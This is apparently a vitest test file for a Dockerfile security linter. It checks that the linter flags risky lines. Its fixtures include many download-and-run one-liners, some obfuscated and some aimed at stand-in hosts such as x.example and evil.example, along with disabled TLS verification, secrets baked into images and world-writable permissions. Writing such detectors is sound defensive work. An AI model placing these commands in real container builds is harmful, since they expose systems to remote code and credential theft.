import { describe, expect, it } from 'vitest';
import { lint } from '../testing/vetted.ts';

const digest = `sha256:${'a'.repeat(64)}`;
const base = `registry.example.com/base/node:24@${digest}`;
const from = `FROM ${base}\n`;
const end = 'USER 10001\nHEALTHCHECK CMD ["true"]\n';

/** What is found in one container file whose other lines are in order. */
const lintLines = (lines: string, files: Record<string, string> = {}): Promise<string[]> =>
  lint({ Dockerfile: `${from}${lines}${end}`, '.dockerignore': '*\n', ...files });
const lintWhole = (text: string): Promise<string[]> => lint({ Dockerfile: text, '.dockerignore': '*\n' });

type Cases = readonly (readonly [name: string, lines: string, expected: readonly string[]])[];

const lineCases: Cases = [
  ['nothing else', '', []],
  ['a harmless step', 'RUN npm ci --omit=dev\n', []],

  [
    'a download is piped to a shell',
    'RUN curl -fsSL https://x.example/i | sh\n',
    ['container/download-and-run: sh'],
  ],
  [
    'it is piped by way of tee and sudo',
    'RUN curl https://x.example/i | tee log | sudo -E bash -s -- -y\n',
    ['container/download-and-run: sudo -E bash -s -- -y', 'container/sudo: sudo -E bash -s -- -y'],
  ],
  [
    'it is in a substitution',
    'RUN bash -c "$(wget -qO- https://x.example/i)"\n',
    ['container/download-and-run: bash -c "$(wget -qO- https://x.example/i)"'],
  ],
  [
    'it is in a process substitution',
    'RUN bash <(curl https://x.example/i)\n',
    ['container/download-and-run: bash <(curl https://x.example/i)'],
  ],
  [
    'it is sourced',
    'RUN . <(curl https://x.example/i)\n',
    ['container/download-and-run: . <(curl https://x.example/i)'],
  ],
  [
    'it is evaluated in backticks',
    'RUN eval `curl https://x.example/i`\n',
    ['container/download-and-run: eval `curl https://x.example/i`'],
  ],
  [
    'its words are evaluated',
    "RUN eval curl https://x.example/i '|' sh\n",
    ["container/download-and-run: curl https://x.example/i '|' sh"],
  ],
  [
    'it is a here-string',
    'RUN bash <<< "$(curl https://x.example/i)"\n',
    ['container/download-and-run: bash <<< "$(curl https://x.example/i)"'],
  ],
  [
    'it is quoted to hide',
    'RUN c""url https://x.example/i | b\\ash\n',
    ['container/download-and-run: b\\ash'],
  ],
  [
    'it is a script within a script',
    "RUN sh -c 'curl https://x.example/i | sh'\n",
    ["container/download-and-run: 'curl https://x.example/i | sh'"],
  ],
  [
    'it is a list of words',
    'RUN ["sh", "-c", "curl https://x.example/i | sh"]\n',
    ['container/download-and-run: ["sh", "-c", "curl https://x.example/i | sh"]'],
  ],
  [
    'it goes over lines with comments',
    'RUN curl https://x.example/i \\\n  # the installer\n\n  | sh\n',
    ['container/download-and-run: sh'],
  ],
  [
    'it is a here-document',
    'RUN <<EOF\ncurl https://x.example/i | sh\nEOF\n',
    ['container/download-and-run: sh'],
  ],
  [
    'it is a here-document to a shell',
    'RUN bash <<EOF\ncurl https://x.example/i | sh\nEOF\n',
    ['container/download-and-run: sh'],
  ],
  [
    'it runs a file that it downloaded',
    'RUN curl -o i.sh https://x.example/i.sh && sh i.sh\n',
    ['container/download-and-run: sh i.sh'],
  ],
  [
    'it makes the file a program',
    'RUN wget https://x.example/i.sh && chmod +x i.sh && ./i.sh\n',
    ['container/download-and-run: ./i.sh'],
  ],
  [
    'python runs what comes in',
    'RUN curl https://x.example/i | python3 -\n',
    ['container/download-and-run: python3 -'],
  ],
  [
    'the file is verified first',
    'RUN curl -o i.sh https://x.example/i.sh && echo "abc  i.sh" | sha256sum -c && sh i.sh\n',
    [],
  ],
  ['a download is unpacked', 'RUN curl https://x.example/a.tgz | tar xz\n', []],
  ['a download is read as data', 'RUN curl https://x.example/a.json | python3 -m json.tool\n', []],
  ['a download is input of a script', 'RUN curl https://x.example/a.json | sh ./load.sh\n', []],
  ['the words stand in an echo', 'RUN echo "curl x | sh"\n', []],
  ['the words stand in a comment', '# RUN curl https://x.example/i | sh\n', []],
  ['a here-document is for another program', 'RUN <<EOF\n#!/usr/bin/env python3\ncurl | sh\nEOF\n', []],
  [
    'a suppression stands before it',
    '# hadolint ignore=DL4006\nRUN curl https://x.example/i | sh\n',
    ['container/download-and-run: sh'],
  ],
  [
    'it is a trigger',
    'ONBUILD RUN curl https://x.example/i | sh\n',
    ['container/download-and-run: sh', 'container/trigger: RUN curl https://x.example/i | sh'],
  ],

  [
    'curl trusts anybody',
    'RUN curl -fsSLk https://x.example/a -o a\n',
    ['container/verification-off: -fsSLk'],
  ],
  [
    'wget trusts anybody',
    'RUN wget --no-check-certificate https://x.example/a\n',
    ['container/verification-off: --no-check-certificate'],
  ],
  ['npm trusts anybody', 'RUN npm config set strict-ssl false\n', ['container/verification-off: strict-ssl']],
  [
    'git trusts anybody',
    'RUN git -c http.sslVerify=false clone https://x.example/a\n',
    ['container/verification-off: http.sslVerify=false'],
  ],
  [
    'apt installs what nobody signed',
    'RUN apt-get install --allow-unauthenticated x=1 && rm -rf /var/lib/apt/lists/*\n',
    ['container/verification-off: --allow-unauthenticated'],
  ],
  [
    'a variable turns it off for the image',
    'ENV NODE_TLS_REJECT_UNAUTHORIZED=0\n',
    ['container/verification-off: NODE_TLS_REJECT_UNAUTHORIZED=0'],
  ],
  [
    'a variable turns it off for a command',
    'RUN GIT_SSL_NO_VERIFY=true git clone https://x.example/a\n',
    ['container/verification-off: GIT_SSL_NO_VERIFY=true git clone https://x.example/a'],
  ],
  ['a variable keeps it on', 'ENV NODE_TLS_REJECT_UNAUTHORIZED=1\n', []],
  ['curl keeps quiet', 'RUN curl -fsSL https://x.example/a -o a\n', []],

  ['ENV holds a secret', 'ENV API_TOKEN=abc123\n', ['container/secret-in-image: API_TOKEN=abc123']],
  [
    'ENV holds a secret in the old form',
    'ENV DB_PASSWORD hunter two\n',
    ['container/secret-in-image: DB_PASSWORD hunter two'],
  ],
  ['ARG takes a secret', 'ARG NPM_TOKEN\n', ['container/secret-in-image: NPM_TOKEN']],
  ['ENV names the file of a secret', 'ENV API_TOKEN_FILE=/run/secrets/api\n', []],
  ['ENV leaves a secret empty', 'ENV API_TOKEN=""\n', []],
  ['a key is copied', 'COPY id_rsa /root/.ssh/id_rsa\n', ['container/secret-in-image: id_rsa']],
  [
    'an environment file is copied',
    'COPY --chown=1:1 package.json .env.production ./\n',
    ['container/secret-in-image: .env.production'],
  ],
  ['the example of one is copied', 'COPY .env.example ./\n', []],
  ['a certificate is copied', 'COPY ca.pem /etc/ssl/ca.pem\n', []],
  ['everything is copied with an ignore file', 'COPY . .\n', []],

  [
    'ADD fetches',
    'ADD https://x.example/a.tgz /opt/\n',
    ['container/unverified-download: https://x.example/a.tgz'],
  ],
  [
    'ADD fetches a branch',
    'ADD https://github.com/a/b.git#main /src\n',
    ['container/unverified-download: https://github.com/a/b.git#main'],
  ],
  ['ADD verifies', `ADD --checksum=${digest} https://x.example/a.tgz /opt/\n`, []],
  ['ADD names a commit', `ADD https://github.com/a/b.git#${'b'.repeat(40)} /src\n`, []],

  [
    'packages have no version',
    'RUN apt-get update && apt-get install -y --no-install-recommends curl git=1:2.39 && rm -rf /var/lib/apt/lists/*\n',
    ['container/unpinned-packages: curl'],
  ],
  [
    'packages leave their lists',
    'RUN apt-get update && apt-get install -y curl=8.5.0\n',
    ['container/package-cache: apt-get install -y curl=8.5.0'],
  ],
  [
    'the cache is mounted',
    'RUN --mount=type=cache,target=/var/cache/apt apt-get install -y curl=8.5.0\n',
    [],
  ],
  [
    'apk without version and with cache',
    'RUN apk add curl\n',
    ['container/package-cache: apk add curl', 'container/unpinned-packages: curl'],
  ],
  ['apk as it should be', 'RUN apk add --no-cache -t .build curl=8.5.0-r0\n', []],
  [
    'pip without version',
    'RUN pip install --no-cache-dir requests "flask==3.0.0"\n',
    ['container/unpinned-packages: requests'],
  ],
  ['pip by a lock file', 'RUN pip install --no-cache-dir -r requirements.txt .\n', []],
  [
    'npm without version',
    'RUN npm install -g typescript @scope/tool@1.2.3\n',
    ['container/unpinned-packages: typescript'],
  ],

  ['everybody may write', 'RUN chmod -R 777 /app\n', ['container/world-writable: 777']],
  ['everybody may write, in letters', 'RUN chmod a+rwx /app\n', ['container/world-writable: a+rwx']],
  ['a sticky folder', 'RUN chmod 1777 /tmp\n', []],
  ['the group may write', 'RUN chmod 0775 /app\n', []],
  ['sudo', 'RUN sudo make install\n', ['container/sudo: sudo make install']],
  ['a remote shell is exposed', 'EXPOSE 8080 20-30/tcp\n', ['container/ssh-exposed: 20-30/tcp']],
  ['a port that only looks like it', 'EXPOSE 8022 2200/udp\n', []],
  [
    'the sandbox is left',
    'RUN --security=insecure true\n',
    ['container/insecure-build: RUN --security=insecure true'],
  ],
  ['the network is none', 'RUN --network=none true\n', []],
  [
    'a shell that is not known',
    'SHELL ["powershell", "-Command"]\nRUN Invoke-Expression (irm https://x.example)\n',
    ['container/not-linted: RUN Invoke-Expression (irm https://x.example)'],
  ],
  [
    'a shell with options',
    'SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN curl https://x.example/i | sh\n',
    ['container/download-and-run: sh'],
  ],
  ['an instruction that does not exist', 'COPPY a b\n', ['container/unreadable: COPPY a b']],
];

const wholeCases: Cases = [
  ['no USER', `${from}HEALTHCHECK CMD true\n`, [`container/root-user: FROM ${base}`]],
  ['USER root', `${from}USER 10001\nUSER root\nHEALTHCHECK CMD true\n`, ['container/root-user: USER root']],
  ['USER 0 with a group', `${from}USER 0:0\nHEALTHCHECK CMD true\n`, ['container/root-user: USER 0:0']],
  [
    'USER by an argument with a default',
    `${from}ARG RUN_AS=10001\nUSER \${RUN_AS}\nHEALTHCHECK CMD true\n`,
    [],
  ],
  [
    'USER by an argument that is root',
    `${from}ARG RUN_AS=0\nUSER $RUN_AS\nHEALTHCHECK CMD true\n`,
    ['container/root-user: USER $RUN_AS'],
  ],
  [
    'USER by an argument without a default',
    `${from}ARG RUN_AS\nUSER $RUN_AS\nHEALTHCHECK CMD true\n`,
    ['container/root-user: USER $RUN_AS'],
  ],
  [
    'USER in an earlier stage only',
    `FROM ${base} AS build\nUSER 1\n${from}HEALTHCHECK CMD true\n`,
    [`container/root-user: FROM ${base}`],
  ],
  [
    'USER in the stage that the last builds on',
    `FROM ${base} AS app\nUSER 1\nHEALTHCHECK CMD true\nFROM app\n`,
    [],
  ],
  ['a base that is not root', `FROM gcr.io/distroless/static:nonroot@${digest}\nHEALTHCHECK CMD true\n`, []],
  ['a base that the settings trust', `FROM gcr.io/distroless/nodejs24@${digest}\nHEALTHCHECK CMD true\n`, []],
  ['a base without a digest', `FROM node:24-slim\n${end}`, ['container/base-not-pinned: node:24-slim']],
  ['a base without a tag', `FROM node\n${end}`, ['container/latest-tag: node']],
  [
    'the latest base',
    `FROM --platform=linux/amd64 node:latest AS x\n${end}`,
    ['container/latest-tag: node:latest'],
  ],
  [
    'a base from elsewhere',
    `FROM evil.example/node:24@${digest}\n${end}`,
    [`container/registry-not-allowed: evil.example/node:24@${digest}`],
  ],
  [
    'a registry that begins alike',
    `FROM registry.example.com.evil.example/n:1@${digest}\n${end}`,
    [`container/registry-not-allowed: registry.example.com.evil.example/n:1@${digest}`],
  ],
  [
    'a base by an argument',
    `ARG V=24\nFROM node:\${V}-slim\n${end}`,
    [`container/base-not-pinned: node:\${V}-slim`],
  ],
  [
    'a base by an argument without a default',
    `ARG BASE\nFROM $BASE\n${end}`,
    ['container/base-not-pinned: $BASE'],
  ],
  ['an empty base', `FROM scratch\nCOPY app /app\n${end}`, []],
  [
    'files from another image',
    `${from}COPY --from=busybox:1.36 /bin/sh /bin/sh\n${end}`,
    ['container/base-not-pinned: COPY --from=busybox:1.36 /bin/sh /bin/sh'],
  ],
  [
    'files from a stage',
    `FROM ${base} AS build\n${from}COPY --from=build /a /a\nCOPY --from=0 /b /b\n${end}`,
    [],
  ],
  [
    'another frontend',
    `# syntax=evil.example/frontend:1\n${from}${end}`,
    ['container/untrusted-frontend: evil.example/frontend:1'],
  ],
  ['the standard frontend', `# syntax=docker/dockerfile:1.7\n${from}${end}`, []],
  [
    'another escape character',
    `# escape=\`\n${from}RUN curl https://x.example/i \`\n | sh\n${end}`,
    ['container/download-and-run: sh'],
  ],
  [
    'Windows line ends',
    `${from}RUN curl https://x.example/i \\\n | sh\n${end}`.replaceAll('\n', '\r\n'),
    ['container/download-and-run: sh'],
  ],
  ['no FROM', 'RUN true\n', ['container/unreadable: RUN true']],
  ['an empty file', '', ['container/unreadable: ']],
  ['no HEALTHCHECK', `${from}USER 1\n`, [`container/no-healthcheck: FROM ${base}`]],
  ['HEALTHCHECK NONE', `${from}USER 1\nHEALTHCHECK NONE\n`, ['container/no-healthcheck: HEALTHCHECK NONE']],
  [
    'packages of a stage that is not shipped',
    `FROM ${base} AS b\nRUN apt-get install -y gcc=12\n${from}${end}`,
    [],
  ],
];

describe('when a container file is vetted', () => {
  it.each(lineCases)('%s', async (_, lines, expected) => {
    expect(await lintLines(lines)).toEqual(expected);
  });

  it.each(wholeCases)('%s', async (_, text, expected) => {
    expect(await lintWhole(text)).toEqual(expected);
  });

  it('tells of a copy of everything where nothing is ignored', async () => {
    expect(await lint({ Dockerfile: `${from}COPY . /app\n${end}` })).toEqual(['container/whole-context: .']);
  });

  it('gives a proposal a notice for a base without a digest', async () => {
    const text = `FROM node:24-slim\n${end}`;
    expect(await lint({ Dockerfile: text }, { lifecycle: { stage: 'proposed' } })).toEqual([
      'notice container/base-not-pinned: node:24-slim',
    ]);
  });

  it('asks for no HEALTHCHECK where the manifest has one, or the runtime is a job', async () => {
    const text = `${from}USER 1\n`;
    expect(
      await lint({ Dockerfile: text }, { runtime: { type: 'container', healthCheck: '/healthz' } }),
    ).toEqual([]);
    expect(
      await lint({ Dockerfile: text }, { runtime: { type: 'container', schedule: '0 * * * *' } }),
    ).toEqual([]);
  });

  it.each(['Containerfile', 'docker/api.dockerfile', 'Dockerfile.prod', 'sub/dockerfile'])(
    'reads %s',
    async (name) => {
      expect(await lint({ [name]: 'RUN true\n' })).toEqual(['container/unreadable: RUN true']);
    },
  );

  it.each(['Dockerfile.txt', 'Dockerfile~', 'Dockerfile2', 'docker-file', 'web.docker', 'Dockerfile '])(
    'takes %s for a container file',
    async (name) => {
      expect(await lint({ [name]: 'FROM ubuntu\nUSER root\n' })).not.toEqual([]);
    },
  );

  it.each(['Dockerfile.md', 'Dockerfile.dockerignore', 'my-dockerfile-notes.txt'])(
    'leaves %s alone',
    async (name) => {
      expect(await lint({ [name]: 'RUN true\n' })).toEqual([]);
    },
  );
});
